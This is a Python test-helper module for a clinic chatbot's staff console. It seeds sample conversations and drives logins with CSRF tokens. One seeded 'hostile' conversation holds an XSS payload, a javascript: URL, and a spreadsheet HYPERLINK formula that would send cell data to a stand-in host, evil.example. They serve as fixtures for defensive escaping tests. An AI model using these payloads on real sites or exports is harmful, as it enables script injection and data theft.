"""Helpers shared by the staff-console tests and the screenshot script.

Seeded conversations and requests, a client that signs in and sends the CSRF token like the
browser does, and the console mounted as app.py mounts it. The clock, the accounts and the
live server are the ones every suite uses (tests/support/).
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from fastapi import FastAPI
from fastapi.testclient import TestClient

from bot.store.repo import ChatLog
from bot.store.visitor.appointments import AppointmentForm
from bot.types import Citation, Reply
from tests.support.accounts import PASSWORD, add_staff_accounts
from tests.support.fakes import FakeClock

XSS = '<img src=x onerror="window.__xss=1"><script>window.__xss=1</script>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def insurance_citation(url: str = "https://clinic.example/insurance") -> Citation:
    return Citation(
        n=1,
        source="insurance",
        title="Insurance and payment",
        url=url,
        quote="We accept Medicare and most major insurance plans.",
        passage="We accept Medicare and most major insurance plans. Call us to check yours.",
        chunk_id="insurance-0001",
        page_version="v-insurance-42",
    )


@dataclass(frozen=True)
class Seeded:
    """Ids of the seeded conversations (by what they contain) and the request."""

    answer: str
    fallback: str
    emergency: str
    hostile: str
    request_id: int
    reference: str


def conversation_id(chatlog: ChatLog, session_id: str) -> str:
    for summary in chatlog.list_conversations(limit=1000):
        if summary.session_id == session_id:
            return summary.id
    raise LookupError(session_id)


def seed(chatlog: ChatLog, clock: FakeClock) -> Seeded:
    """Two accounts and four conversations (answer, fallback, emergency, hostile input)."""
    add_staff_accounts(chatlog)

    chatlog.log_reply(
        "s-answer",
        Reply(
            "Do you take Medicare?",
            "answer",
            "Yes, we accept Medicare [1].",
            citations=(insurance_citation(),),
            index_version="20250601T000000Z-aaaaaaaa",
        ),
    )
    message = chatlog.log_reply(
        "s-answer",
        Reply(
            "What are your opening hours?",
            "answer",
            "Monday to Friday, 8am to 6pm [1].",
            citations=(
                Citation(
                    1,
                    "hours",
                    "Opening hours",
                    "https://clinic.example/hours",
                    "We are open Monday to Friday, 8am to 6pm.",
                    "",
                    chunk_id="hours-1",
                    page_version="v-hours-7",
                ),
            ),
        ),
    )
    chatlog.set_feedback("s-answer", message, 1)
    reference = chatlog.request_appointment(
        "s-answer",
        AppointmentForm(
            "Maria Lopez", "555-010-2030", "maria@example.org", "mornings", "first visit", True
        ),
    )
    clock.advance(hours=1)

    message = chatlog.log_reply(
        "s-fallback",
        Reply(
            "Can I bring my dog to the clinic?",
            "fallback",
            "I could not find that on the clinic's pages. You can ask the clinic directly.",
        ),
    )
    chatlog.set_feedback("s-fallback", message, -1)
    clock.advance(hours=1)

    chatlog.log_reply(
        "s-emergency",
        Reply(
            "I took too many pills",
            "emergency",
            "If you are in danger, call 911 now. For a mental-health crisis, call or text 988.",
        ),
    )
    clock.advance(hours=1)

    chatlog.log_reply(
        "s-hostile",
        Reply(
            XSS + " " + FORMULA,
            "refusal",
            "I can only give general information. " + XSS,
            citations=(insurance_citation(url="javascript:alert(1)"),),
        ),
    )
    clock.advance(minutes=5)

    request_id = chatlog.list_requests(None)[0].id
    return Seeded(
        answer=conversation_id(chatlog, "s-answer"),
        fallback=conversation_id(chatlog, "s-fallback"),
        emergency=conversation_id(chatlog, "s-emergency"),
        hostile=conversation_id(chatlog, "s-hostile"),
        request_id=request_id,
        reference=reference,
    )


# --- driving the console over HTTP -------------------------------------------------------

_CSRF = re.compile(r'name="csrf" value="([^"]+)"')
_LOGIN_TOKEN = re.compile(r'name="login_token" value="([^"]+)"')


class Console:
    """A TestClient that signs in through the form and posts forms with their CSRF token."""

    def __init__(self, app: FastAPI, prefix: str = "/staff", root_path: str = "") -> None:
        self.client = TestClient(app, base_url="http://testserver", root_path=root_path)
        self.prefix = prefix
        self.csrf = ""

    def get(self, path: str, **kwargs: Any) -> Any:
        kwargs.setdefault("follow_redirects", False)
        return self.client.get(self.prefix + path, **kwargs)

    def post(self, path: str, data: dict[str, Any] | None = None, **kwargs: Any) -> Any:
        kwargs.setdefault("follow_redirects", False)
        form = {"csrf": self.csrf, **(data or {})}
        return self.client.post(self.prefix + path, data=form, **kwargs)

    def login(self, username: str, password: str = PASSWORD, next: str = "") -> Any:
        page = self.client.get(self.prefix + "/login")
        token = _LOGIN_TOKEN.search(page.text)
        assert token, page.text
        response = self.client.post(
            self.prefix + "/login",
            data={
                "username": username,
                "password": password,
                "login_token": token.group(1),
                "next": next,
            },
            follow_redirects=False,
        )
        if response.status_code == 303:
            found = _CSRF.search(self.client.get(self.prefix + "/about").text)
            self.csrf = found.group(1) if found else ""
        return response


# --- the console as app.py mounts it ----------------------------------------------------


def mounted(staff_app: FastAPI, prefix: str = "/staff") -> FastAPI:
    """A parent app with the console mounted the way app.py mounts it."""
    parent = FastAPI()
    parent.mount(prefix, staff_app)
    return parent


def write_page(knowledge: Path, name: str, title: str, body: str, url: str = "") -> Path:
    path = knowledge / name
    front = f"---\ntitle: {title}\n" + (f"url: {url}\n" if url else "") + "---\n\n"
    path.write_text(front + f"# {title}\n\n{body}\n", encoding="utf-8")
    return path
